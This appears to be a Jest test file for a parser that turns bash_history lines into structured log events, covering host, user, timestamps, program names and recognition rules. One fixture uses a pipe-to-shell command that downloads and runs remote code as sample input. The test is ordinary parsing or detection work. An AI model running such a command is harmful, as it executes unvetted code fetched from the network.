import { expect, it } from '@jest/globals';
import { lineCandidate } from '../../../../../test/fixtures/text-candidate.ts';
import { bashHistory } from './bash-history.ts';

const TYPED = Date.UTC(2024, 4, 14, 9);
const map = (text: string) =>
  bashHistory.map(lineCandidate(text, 'bash_history', { host: 'WEB1', user: 'nina', time: TYPED }));

it('takes host, user and time from the shipper', () => {
  expect(map('curl -s http://x | sh')).toMatchObject({
    time: TYPED,
    class: 'script',
    action: 'command',
    host: 'WEB1',
    user: 'nina',
    process: 'curl',
    commandLine: 'curl -s http://x | sh',
    logsource: { product: 'linux', category: '', service: 'bash' },
    fields: { CommandLine: 'curl -s http://x | sh' },
    tainted: ['commandLine', 'CommandLine'],
  });
});

it.each([
  ['#1699999999', 1_699_999_999_000, '', 'log'],
  ['#1699999999\nwhoami', 1_699_999_999_000, 'whoami', 'script'],
  [': 1699999999:0;ls -la', 1_699_999_999_000, 'ls -la', 'script'],
  ['#1699999999 is a comment', TYPED, '#1699999999 is a comment', 'script'],
  [': 16', TYPED, ': 16', 'script'],
])('%j', (text, time, commandLine, kind) => {
  expect(map(text)).toMatchObject({ time, commandLine, class: kind });
});

it.each([
  ['  A=1 B=2 /usr/bin/python3 x.py', '/usr/bin/python3'],
  ['A=1', ''],
  ['$(x)', ''],
  ['', ''],
])('the program of %j is %j', (text, expected) => {
  expect(map(text)?.process).toBe(expected);
});

it.each([
  ['whoami', 'bash_history', '', true],
  ['whoami', '', '/home/nina/.bash_history', true],
  ['#1699999999', '', '', true],
  ['whoami', '', '', false],
  ['#16999', '', '', false],
])('%j with hint %j and file %j is recognised: %j', (text, hint, file, expected) => {
  expect(bashHistory.recognises(lineCandidate(text, hint, { file }))).toBe(expected);
});
